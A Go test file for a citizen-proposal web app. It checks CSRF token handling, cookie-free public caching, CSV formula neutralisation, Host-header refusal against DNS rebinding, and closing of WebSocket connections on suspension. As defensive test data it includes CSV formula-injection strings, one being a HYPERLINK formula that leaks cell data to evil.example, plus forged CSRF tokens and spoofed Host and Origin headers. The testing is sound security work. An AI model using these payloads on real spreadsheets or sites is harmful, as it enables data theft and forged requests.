package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/e-people/e-people/assets"
	"github.com/e-people/e-people/forum"
	"github.com/e-people/e-people/views"
	"github.com/gofiber/fiber/v2"
	"github.com/gorilla/websocket"
)

// The CSRF token counts only from the body or the X-CSRF-Token header: one
// in the query string (which links, logs and Referer carry) is refused.
func TestCSRF_NotFromQueryString(t *testing.T) {
	e := newEnv(t)
	c := e.register("쿼리 토큰 시민")
	id := e.openProposal(c, "쿼리 토큰 시험 제안", "본문")
	path := "/proposals/" + itoa(int(id))
	if r := c.post(path+"/support", nil); r.Status != http.StatusSeeOther {
		t.Fatalf("support: %d", r.Status)
	}
	tok := c.csrf()
	if r := c.do("POST", path+"/unsupport?_csrf="+url.QueryEscape(tok), url.Values{}); r.Status != http.StatusForbidden {
		t.Fatalf("token in the query string: status %d, want 403", r.Status)
	}
	if p, _ := e.st.Proposal(context.Background(), id); p.Supports != 1 {
		t.Fatalf("support withdrawn through a query-string token: %d supports", p.Supports)
	}
	// A multipart form body still carries it.
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	_ = mw.WriteField("_csrf", tok)
	mw.Close()
	req := httptest.NewRequest("POST", path+"/unsupport", &buf)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	if r := c.send(req); r.Status != http.StatusSeeOther {
		t.Fatalf("token in a multipart body: status %d, want 303", r.Status)
	}
}

// A guest CSRF cookie the server did not make (planted by a sibling domain
// or a man in the middle) is replaced, never trusted: a sign-in form
// submitted with it is refused.
func TestCSRF_GuestTokenIsSigned(t *testing.T) {
	e := newEnv(t)
	planted := strings.Repeat("a", 43)
	c := e.client()
	c.cookies[anonCSRFCookie] = planted
	r := c.get("/login")
	if m := csrfRe.FindStringSubmatch(r.Body); m == nil || m[1] == planted || !e.srv.validGuestCSRF(m[1]) {
		t.Fatalf("login form carries %v, want a fresh signed token", m)
	}
	if got := c.cookies[anonCSRFCookie]; got == planted || !e.srv.validGuestCSRF(got) {
		t.Fatalf("cookie %q not replaced by a signed token", got)
	}
	for _, forged := range []string{planted, planted + "." + strings.Repeat("b", 43), c.cookies[anonCSRFCookie] + "x"} {
		attacker := e.client()
		attacker.cookies[anonCSRFCookie] = forged
		if r := attacker.do("POST", "/login", url.Values{"_csrf": {forged}, "email": {"x@example.org"}, "password": {"whatever123"}}); r.Status != http.StatusForbidden {
			t.Errorf("planted token %.20q…: status %d, want 403", forged, r.Status)
		}
	}
	// The server's own token works, and survives a restart (the secret is stored).
	srv2, err := New(e.st, Config{BaseURL: "http://127.0.0.1", Views: views.FS, Assets: assets.FS, Now: e.clock.Now})
	if err != nil {
		t.Fatal(err)
	}
	if tok := c.cookies[anonCSRFCookie]; !srv2.validGuestCSRF(tok) {
		t.Fatal("a token of this server is invalid after a restart")
	}
}

var routeParam = regexp.MustCompile(`:(\w+)(<[^>]+>)?`)

// No response that a shared cache may store (Cache-Control: public) sets a
// cookie, on any GET route the app has: the cache would hand one visitor's
// cookie to the next.
func TestPublicCache_SetsNoCookie(t *testing.T) {
	e := newEnv(t)
	author := e.register("캐시 작성자")
	e.openProposal(author, "캐시 시험 제안", "본문")
	var paths []string
	seen := map[string]bool{}
	for _, rt := range e.srv.App().GetRoutes(true) {
		if rt.Method != fiber.MethodGet || seen[rt.Path] {
			continue
		}
		seen[rt.Path] = true
		p := routeParam.ReplaceAllStringFunc(rt.Path, func(m string) string {
			switch name := routeParam.FindStringSubmatch(m)[1]; {
			case name == "slug" && strings.Contains(rt.Path, "categor"):
				return "welfare"
			case name == "slug":
				return "mohw"
			case name == "token":
				return "x"
			}
			return "1"
		})
		paths = append(paths, p)
	}
	paths = append(paths, "/assets/style.css")
	public := map[string]bool{}
	for _, who := range []string{"guest", "stale session", "signed in"} {
		for _, p := range paths {
			c := e.client()
			switch who {
			case "stale session":
				c.cookies[SessionCookie] = "expired-or-forged"
			case "signed in":
				c = author
			}
			r := c.get(p)
			if !cacheIsPublic(r.Header.Get("Cache-Control")) {
				continue
			}
			public[p] = true
			if sc := r.Header.Values("Set-Cookie"); len(sc) > 0 {
				t.Errorf("%s GET %s: Cache-Control %q with Set-Cookie %q", who, p, r.Header.Get("Cache-Control"), sc)
			}
		}
	}
	for _, p := range []string{"/open-data/proposals.csv", "/open-data/moderation-log.ndjson", "/feeds/proposals.atom", "/feeds/ministries/mohw.atom"} {
		if !public[p] {
			t.Errorf("%s was not walked as a public response (walked %d paths)", p, len(paths))
		}
	}
}

// Every CSV cell of user text that a spreadsheet would run as a formula
// starts with a quote; numbers stay numbers, negative ones included.
func TestCSV_NeutralisesFormulas(t *testing.T) {
	for _, tc := range []struct {
		in   any
		want string
	}{
		{"=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")"},
		{"+1+1", "'+1+1"}, {"-2+3", "'-2+3"}, {"@SUM(A1)", "'@SUM(A1)"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
		{"국민 제안", "국민 제안"}, {"a=b", "a=b"}, {"", ""},
		{-5, "-5"}, {int64(-7), "-7"}, {3, "3"}, {true, "true"}, {(*string)(nil), ""},
	} {
		if got := csvCell(tc.in); got != tc.want {
			t.Errorf("csvCell(%#v) = %q, want %q", tc.in, got, tc.want)
		}
	}
	e := newEnv(t)
	author := e.register("수식 작성자")
	title := `=HYPERLINK("http://evil.example/?"&A1,"클릭")`
	id := e.openProposal(author, title, "-1+1 본문, 쉼표와 \"따옴표\"")
	r := e.client().get("/open-data/proposals.csv")
	if r.Status != 200 {
		t.Fatalf("download: %d", r.Status)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	found := false
	for _, row := range rows[1:] {
		if row[col["id"]] != itoa(int(id)) {
			continue
		}
		found = true
		if got := row[col["title"]]; got != "'"+title {
			t.Errorf("title cell %q, want %q", got, "'"+title)
		}
		if got := row[col["supports"]]; got != "0" {
			t.Errorf("supports cell %q, want a plain number", got)
		}
	}
	if !found {
		t.Fatalf("proposal %d not in the download", id)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
	}
}

// hostServer is a server on e's database with baseURL.
func hostServer(t *testing.T, e *env, baseURL string) *Server {
	t.Helper()
	srv, err := New(e.st, Config{BaseURL: baseURL, Views: views.FS, Assets: assets.FS, Now: e.clock.Now})
	if err != nil {
		t.Fatal(err)
	}
	return srv
}

// Requests for another host name (DNS rebinding) are refused, /healthz
// excepted; an https site sends Strict-Transport-Security on every response.
func TestHost_RefusedUnlessTheSites(t *testing.T) {
	e := newEnv(t)
	for _, tc := range []struct {
		base, host, path string
		hdr              []string
		want             int
		hsts             bool
	}{
		{"https://e-people.example", "e-people.example", "/", nil, 200, true},
		{"https://e-people.example", "E-People.example:443", "/proposals", nil, 200, true},
		{"https://e-people.example", "evil.example", "/", nil, 421, true},
		{"https://e-people.example", "127.0.0.1", "/", nil, 421, true},
		{"https://e-people.example", "10.0.0.7:8080", "/healthz", nil, 200, true},
		{"https://e-people.example", "evil.example", "/live?topics=feed",
			[]string{"Connection", "Upgrade", "Upgrade", "websocket", "Origin", "http://evil.example", "Sec-WebSocket-Version", "13", "Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="}, 421, true},
		{"http://127.0.0.1:8080", "127.0.0.1:8080", "/", nil, 200, false},
		{"http://127.0.0.1:8080", "localhost:8080", "/", nil, 200, false},
		{"http://localhost:8080", "127.0.0.1:8080", "/", nil, 200, false},
		{"http://localhost:8080", "[::1]:8080", "/", nil, 200, false},
		{"http://127.0.0.1:8080", "rebound.evil.example:8080", "/", nil, 421, false},
		{"http://127.0.0.1:8080", "evil.example", "/open-data/proposals.csv", nil, 421, false},
		{"http://0.0.0.0:8080", "192.168.0.9:8080", "/", nil, 200, false},
		{"http://:8080", "192.168.0.9:8080", "/", nil, 200, false},
	} {
		srv := hostServer(t, e, tc.base)
		req := httptest.NewRequest("GET", tc.path, nil)
		req.Host = tc.host
		req.Header.Set("Accept-Language", "en")
		for i := 0; i+1 < len(tc.hdr); i += 2 {
			req.Header.Set(tc.hdr[i], tc.hdr[i+1])
		}
		res, err := srv.App().Test(req, -1)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(res.Body)
		res.Body.Close()
		name := tc.base + " Host " + tc.host + " " + tc.path
		if res.StatusCode != tc.want {
			t.Errorf("%s: status %d, want %d", name, res.StatusCode, tc.want)
		}
		if tc.want == 421 && !strings.Contains(string(body), "does not answer requests for this address") {
			t.Errorf("%s: no clear message: %.300s", name, body)
		}
		if got := res.Header.Get("Strict-Transport-Security"); (got == hsts) != tc.hsts || (!tc.hsts && got != "") {
			t.Errorf("%s: Strict-Transport-Security %q", name, got)
		}
	}
}

// A suspension or a ban closes the account's open live sockets with a close
// frame (1008, policy violation); other sockets stay open.
func TestLive_SuspendClosesSockets(t *testing.T) {
	e := newEnv(t)
	base := serveLoopback(t, e)
	mod := e.staff(forum.RoleModerator, 0, "실시간 관리자")
	bystander := e.register("구경하는 시민")
	other, _, err := dialLive(t, base, "topics=me,feed", "", bystander.cookies)
	if err != nil {
		t.Fatal(err)
	}
	for _, days := range []string{"3", "ban"} {
		c := e.register("정지될 시민 " + days)
		ws, _, err := dialLive(t, base, "topics=me,feed", "", c.cookies)
		if err != nil {
			t.Fatal(err)
		}
		if r := mod.post("/moderation/users/"+itoa(int(c.user().ID))+"/suspend", url.Values{"days": {days}, "reason": {"spam"}}); r.Status != http.StatusSeeOther {
			t.Fatalf("suspend %s: %d %.300s", days, r.Status, r.Body)
		}
		// The bound only keeps a broken build from hanging: the close frame
		// follows the suspension's own notification at once.
		_ = ws.SetReadDeadline(time.Now().Add(10 * time.Second))
		for {
			_, _, err := ws.ReadMessage()
			if err == nil {
				continue
			}
			var ce *websocket.CloseError
			if !errors.As(err, &ce) || ce.Code != websocket.ClosePolicyViolation {
				t.Fatalf("days=%s: socket ended with %v, want a close frame 1008", days, err)
			}
			break
		}
	}
	// The bystander's socket is still open: a fresh proposal reaches it.
	author := e.register("실시간 작성자")
	e.openProposal(author, "아직 열린 소켓 제안", "본문")
	_ = other.SetReadDeadline(time.Now().Add(10 * time.Second))
	if _, _, err := other.ReadMessage(); err != nil {
		t.Fatalf("bystander's socket: %v", err)
	}
}
